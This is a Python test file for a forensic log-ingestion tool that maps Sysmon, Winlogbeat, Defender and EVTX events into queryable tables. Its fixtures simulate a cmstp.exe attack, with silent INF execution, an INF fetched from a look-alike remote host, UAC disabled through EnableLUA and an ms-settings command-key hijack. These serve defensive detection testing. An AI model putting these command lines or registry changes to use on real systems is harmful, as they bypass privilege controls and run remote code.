"""Other shapes (Winlogbeat/ECS, flat Sigma-style JSON, Defender JSON), the CLI, Parquet output, mapping checks."""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from assay.cli.main import cli
from assay.engine import DuckDBEngine
from assay.errors import IngestError
from assay.ingest import ingest_paths
from assay.ingest.mapping import compile_mapping

SAMPLE = Path(__file__).resolve().parents[2] / "samples" / "cmstp-case"

WINLOGBEAT_EVENT = {
    "@timestamp": "2026-11-24T08:37:12.340Z",
    "event": {"code": "1", "kind": "event", "provider": "Microsoft-Windows-Sysmon"},
    "host": {"name": "fin-ws042.corp.contoso.com"},
    "winlog": {
        "channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "record_id": 48397,
        "provider_name": "Microsoft-Windows-Sysmon", "computer_name": "FIN-WS042.corp.contoso.com",
        "event_data": {
            "UtcTime": "2026-11-24 08:37:12.340", "ProcessGuid": "{4b0c6e3a-4f1c-6743-5a02-000000000b00}",
            "ProcessId": "4880", "Image": "C:\\Windows\\System32\\cmstp.exe",
            "CommandLine": "cmstp.exe  /s /ns C:\\Users\\j.martin\\AppData\\Local\\Temp\\x.inf",
            "User": "CONTOSO\\j.martin", "IntegrityLevel": "Medium", "ParentProcessId": "4868",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "ParentCommandLine": "\"C:\\Windows\\system32\\cmd.exe\" /c cmstp.exe /s /ns x.inf",
            "Hashes": "SHA1=BA135738EF1FB2F4C2C6C610BE2C4E855A526668,MD5=4B2F2E7A3F6C1A4E8E2D4C2F0B8A9A11,"
                      "SHA256=6A1EB1C2C1F5F3A29E6A50F1C6B1F5B8C7F3A3B2D2D8E1C2F0A9B8C7D6E5F4A3",
        },
    },
}


def test_winlogbeat_ecs_maps_like_sysmon(tmp_path: Path) -> None:
    target = tmp_path / "winlogbeat.ndjson"
    target.write_text(json.dumps(WINLOGBEAT_EVENT) + "\n", encoding="utf-8")
    engine = DuckDBEngine(None)
    summary = ingest_paths([target], engine=engine)
    assert [s.format for s in summary.sources] == ["ecs"]
    row = engine.run("SELECT FileName, ProcessId, InitiatingProcessFileName, AccountDomain, AccountName, SHA256, "
                     "DeviceName FROM DeviceProcessEvents").as_dicts()[0]
    assert row == {"FileName": "cmstp.exe", "ProcessId": 4880, "InitiatingProcessFileName": "cmd.exe",
                   "AccountDomain": "CONTOSO", "AccountName": "j.martin",
                   "SHA256": "6a1eb1c2c1f5f3a29e6a50f1c6b1f5b8c7f3a3b2d2d8e1c2f0a9b8c7d6e5f4a3",
                   "DeviceName": "FIN-WS042.corp.contoso.com"}
    fields = engine.run("SELECT Fields FROM RawEvents").rows[0][0]
    assert fields["CommandLine"].endswith("x.inf") and "winlog.event_data.Image" not in fields
    engine.close()


def test_flat_sigma_style_json_array_and_defender_json(tmp_path: Path) -> None:
    flat = [{"EventID": 4688, "Channel": "Security", "Computer": "DC01.corp.contoso.com",
             "TimeCreated": "2026-11-24T08:40:00.000Z", "NewProcessName": "C:\\Windows\\System32\\cmstp.exe",
             "NewProcessId": "0x1a2c", "ProcessId": "0x133c", "CommandLine": "cmstp.exe /s C:\\Temp\\a.inf",
             "SubjectUserName": "svc_backup", "SubjectDomainName": "CONTOSO",
             "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "MandatoryLabel": "S-1-16-12288"}]
    (tmp_path / "flat.json").write_text(json.dumps(flat), encoding="utf-8")
    defender = [{"Timestamp": "2026-11-24T09:14:03.1234567Z", "DeviceName": "hr-lt017.corp.contoso.com",
                 "ActionType": "ProcessCreated", "FileName": "cmstp.exe",
                 "FolderPath": "C:\\Windows\\System32\\cmstp.exe", "ProcessCommandLine": "cmstp.exe /ni /s x.inf",
                 "ProcessId": 7316, "InitiatingProcessFileName": "cmd.exe", "ReportId": 4119,
                 "MachineGroup": "HR laptops"}]
    (tmp_path / "DeviceProcessEvents-export.json").write_text(json.dumps(defender), encoding="utf-8")
    engine = DuckDBEngine(None)
    summary = ingest_paths([tmp_path], engine=engine)
    assert sorted(s.format for s in summary.sources) == ["defender-json", "flat"]
    found = engine.run("SELECT FileName, ProcessId, InitiatingProcessId, ProcessIntegrityLevel, AccountName, "
                       "Timestamp, AdditionalFields FROM DeviceProcessEvents ORDER BY Timestamp").as_dicts()
    assert found[0]["ProcessId"] == 0x1A2C and found[0]["InitiatingProcessId"] == 0x133C
    assert found[0]["ProcessIntegrityLevel"] == "High" and found[0]["AccountName"] == "svc_backup"
    assert found[1]["ProcessId"] == 7316 and found[1]["Timestamp"].microsecond == 123456
    assert json.loads(found[1]["AdditionalFields"]) == {"MachineGroup": "HR laptops"}
    security = engine.run("SELECT Activity, Account, Process FROM SecurityEvent").as_dicts()
    assert security == [{"Activity": "4688 - A new process has been created.", "Account": "CONTOSO\\svc_backup",
                         "Process": "cmstp.exe"}]
    engine.close()


def test_cli_ingest_json_summary_tables_and_parquet(tmp_path: Path) -> None:
    runner = CliRunner()
    database = tmp_path / "case.duckdb"
    result = runner.invoke(cli, ["ingest", str(SAMPLE), "--db", str(database), "--format", "json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    raw_total = sum(1 for _ in (SAMPLE / "sysmon.jsonl").open()) + sum(1 for _ in (SAMPLE / "security.jsonl").open())
    assert report["records_read"] == raw_total + 19 and report["bad_records"] == 0
    assert report["rows_per_table"]["SecurityEvent"] == sum(1 for _ in (SAMPLE / "security.jsonl").open())
    assert "ProcessGuid" in report["unmapped_fields"]["sysmon-1-process-create"]
    tables = runner.invoke(cli, ["tables", "--db", str(database), "--format", "json"])
    assert tables.exit_code == 0, tables.output
    listing = {t["table"]: t for t in json.loads(tables.output)["tables"]}
    assert listing["RawEvents"]["rows"] == report["records_read"]
    assert {"name": "Fields", "type": "MAP(VARCHAR, VARCHAR)"} in listing["RawEvents"]["columns"]
    # Ingesting again appends with new AssayEventIds (a case grows file by file).
    again = json.loads(runner.invoke(cli, ["ingest", str(SAMPLE / "security.jsonl"), "--db", str(database),
                                           "--format", "json"]).output)
    assert again["assay_event_ids"][0] == report["assay_event_ids"][1] + 1
    out = tmp_path / "tables"
    parquet = runner.invoke(cli, ["ingest", str(SAMPLE), "--db", str(tmp_path / "p.duckdb"), "--store", "parquet",
                                  "--out", str(out)])
    assert parquet.exit_code == 0, parquet.output
    process = pq.read_table(out / "DeviceProcessEvents")
    assert process.num_rows == report["rows_per_table"]["DeviceProcessEvents"]
    assert "cmstp.exe" in process.column("FileName").to_pylist()
    missing_out = runner.invoke(cli, ["ingest", str(SAMPLE), "--store", "parquet", "--db", str(tmp_path / "q.duckdb")])
    assert missing_out.exit_code == 2 and "--out" in missing_out.output


def test_cli_ingest_old_format_spellings_still_work_with_a_notice(tmp_path: Path) -> None:
    """--format used to be the storage (duckdb|parquet) and --format-output the report: both keep working for a
    release, each with a deprecation notice on stderr, and stdout stays machine-readable."""
    runner = CliRunner()
    legacy = runner.invoke(cli, ["ingest", str(SAMPLE / "security.jsonl"), "--db", str(tmp_path / "a.duckdb"),
                                 "--format-output", "json"])
    assert legacy.exit_code == 0, legacy.output
    assert json.loads(legacy.stdout)["bad_records"] == 0
    assert "--format-output is deprecated" in legacy.stderr and "use --format json" in legacy.stderr
    out = tmp_path / "tables"
    old_store = runner.invoke(cli, ["ingest", str(SAMPLE / "security.jsonl"), "--db", str(tmp_path / "b.duckdb"),
                                    "--format", "parquet", "--out", str(out)])
    assert old_store.exit_code == 0, old_store.output
    assert "use --store parquet" in old_store.stderr
    assert pq.read_table(out / "SecurityEvent").num_rows > 0


def test_cli_tables_without_database_is_a_usage_error(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["tables", "--db", str(tmp_path / "none.duckdb")])
    assert result.exit_code == 2 and "assay ingest" in result.output


def test_mapping_with_unknown_column_says_did_you_mean() -> None:
    document = {"name": "sysmon-1-test", "table": "DeviceProcessEvents",
                "match": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_ids": [1]},
                "columns": {"ProcessCommandline": {"field": "CommandLine"}}}
    with pytest.raises(IngestError) as raised:
        compile_mapping(document, "mappings/test.yml")
    assert "ProcessCommandLine" in str(raised.value) and "mappings/test.yml" in str(raised.value)
    document["columns"] = {"FileName": {"basenam": "Image"}}
    with pytest.raises(IngestError, match="did you mean basename"):
        compile_mapping(document, "mappings/test.yml")


def _sysmon(event_id: int, record: int, data: dict[str, str]) -> str:
    return json.dumps({"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": event_id,
        "TimeCreated": {"#attributes": {"SystemTime": "2026-11-24T08:41:07.512304Z"}}, "EventRecordID": record,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "FIN-WS042.corp.contoso.com"},
        "EventData": {"RuleName": "-", "UtcTime": "2026-11-24 08:41:07.512", "ProcessId": "4928",
                      "Image": "C:\\Windows\\System32\\cmstp.exe", "User": "CONTOSO\\j.martin", **data}}})


def test_registry_value_split_hives_and_rename(tmp_path: Path) -> None:
    lines = [
        _sysmon(13, 1, {"EventType": "SetValue", "Details": "DWORD (0x00000000)",
                        "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA"}),
        _sysmon(14, 2, {"EventType": "RenameKey",
                        "TargetObject": "HKU\\S-1-5-21-1409082233-3263994021-2093917318-1117\\Software\\Classes\\ms-settings\\Shell\\Open\\command-old",
                        "NewName": "HKU\\S-1-5-21-1409082233-3263994021-2093917318-1117\\Software\\Classes\\ms-settings\\Shell\\Open\\command"}),
        _sysmon(12, 3, {"EventType": "CreateKey",
                        "TargetObject": "HKCR\\CLSID\\{3E5FC7F9-9A51-4367-9063-A120244FBEC7}"}),
    ]
    target = tmp_path / "registry.jsonl"
    target.write_text("\n".join(lines) + "\n", encoding="utf-8")
    engine = DuckDBEngine(None)
    ingest_paths([target], engine=engine)
    found = engine.run("SELECT ActionType, RegistryKey, RegistryValueName, RegistryValueData, RegistryValueType, "
                       "PreviousRegistryKey, InitiatingProcessFileName FROM DeviceRegistryEvents "
                       "ORDER BY AssayEventId").as_dicts()
    engine.close()
    assert found[0] == {
        "ActionType": "RegistryValueSet",
        "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System",
        "RegistryValueName": "EnableLUA", "RegistryValueData": "DWORD (0x00000000)", "RegistryValueType": "Dword",
        "PreviousRegistryKey": None, "InitiatingProcessFileName": "cmstp.exe"}
    assert found[1]["ActionType"] == "RegistryKeyRenamed"
    assert str(found[1]["RegistryKey"]).startswith("HKEY_USERS\\S-1-5-21-") and str(found[1]["RegistryKey"]).endswith("\\command")
    assert str(found[1]["PreviousRegistryKey"]).endswith("\\command-old")
    assert found[2]["ActionType"] == "RegistryKeyCreated"
    assert found[2]["RegistryKey"] == "HKEY_CLASSES_ROOT\\CLSID\\{3E5FC7F9-9A51-4367-9063-A120244FBEC7}"
    assert found[2]["RegistryValueName"] is None


def test_default_database_is_announced_and_python_api(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import assay

    database = tmp_path / "env.duckdb"
    monkeypatch.setenv("ASSAY_DB", str(database))
    result = CliRunner().invoke(cli, ["ingest", str(SAMPLE / "security.jsonl")])
    assert result.exit_code == 0, result.output
    assert f"database: {database} (default" in result.output
    summary = assay.ingest([SAMPLE / "sysmon.jsonl"], db=tmp_path / "api.duckdb")
    assert summary.database == str(tmp_path / "api.duckdb")
    assert summary.rows_per_table["DeviceNetworkEvents"] > 0
    assert summary.as_dict()["sources"][0]["format"] == "evtx-json"


def test_advanced_hunting_api_response(tmp_path: Path) -> None:
    response = {
        "Schema": [{"Name": "Timestamp", "Type": "DateTime"}, {"Name": "DeviceName", "Type": "String"}],
        "Results": [{"Timestamp": "2026-11-24T09:14:03.1234567Z", "DeviceName": "hr-lt017.corp.contoso.com",
                     "ActionType": "ConnectionSuccess", "RemoteIP": "104.21.55.12", "RemotePort": 443,
                     "RemoteUrl": "cdn-updates.contoso-files.net", "InitiatingProcessFileName": "cmstp.exe",
                     "InitiatingProcessCommandLine": "cmstp.exe /ni /s https://cdn-updates.contoso-files.net/profile.inf"}
                    for _ in range(2)],
    }
    target = tmp_path / "hunting-results.json"
    target.write_text(json.dumps(response, indent=2), encoding="utf-8")  # pretty-printed, as saved from the API
    engine = DuckDBEngine(None)
    summary = ingest_paths([target], engine=engine)
    assert summary.rows_per_table["DeviceNetworkEvents"] == 2
    row = engine.run("SELECT RemoteIP, RemotePort, InitiatingProcessFileName FROM DeviceNetworkEvents").as_dicts()[0]
    assert row == {"RemoteIP": "104.21.55.12", "RemotePort": 443, "InitiatingProcessFileName": "cmstp.exe"}
    engine.close()


@pytest.mark.shared_data
def test_evtx_inside_a_zip_is_read_in_place(shared_data: Path, tmp_path: Path) -> None:
    import zipfile

    recording = shared_data / "cmstp" / "sysmon_1_13_11_cmstp_ini_uacbypass.evtx"
    archive = tmp_path / "triage.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.write(recording, "IEWIN7/Sysmon.evtx")
    engine = DuckDBEngine(None)
    summary = ingest_paths([archive], engine=engine)
    assert [(s.label, s.format) for s in summary.sources] == [(f"{archive}!IEWIN7/Sysmon.evtx", "evtx")]
    sources = {r[0] for r in engine.run("SELECT AssaySource FROM DeviceProcessEvents WHERE FileName = 'cmstp.exe'").rows}
    assert sources == {f"{archive}!IEWIN7/Sysmon.evtx#16038"}  # the third record, by its EventRecordID
    engine.close()


@pytest.mark.parametrize(("text", "expected"), [
    ("2026-11-24T08:37:12.340123Z", "2026-11-24 08:37:12.340123"),
    ("2026-11-24T08:37:12.3401234Z", "2026-11-24 08:37:12.340123"),  # Windows' 100 ns ticks
    ("2026-11-24 08:37:12.340", "2026-11-24 08:37:12.34"),  # Sysmon UtcTime
    ("2026-11-24T10:37:12.340+02:00", "2026-11-24 08:37:12.34"),
    ("2026-11-24T03:37:12-0500", "2026-11-24 08:37:12"),
    ("2026-11-24", "2026-11-24 00:00:00"),
    ("yesterday", None),
])
def test_timestamps_are_utc_whatever_the_session_time_zone(text: str, expected: str | None) -> None:
    from assay.ingest.mapping import timestamp_sql

    engine = DuckDBEngine(None, create_tables=False)
    engine.connection.execute("SET TimeZone = 'America/New_York'").fetchall()
    value = engine.run(f"SELECT CAST({timestamp_sql('$1::VARCHAR')} AS VARCHAR)", [text]).rows[0][0]
    engine.close()
    assert value == expected
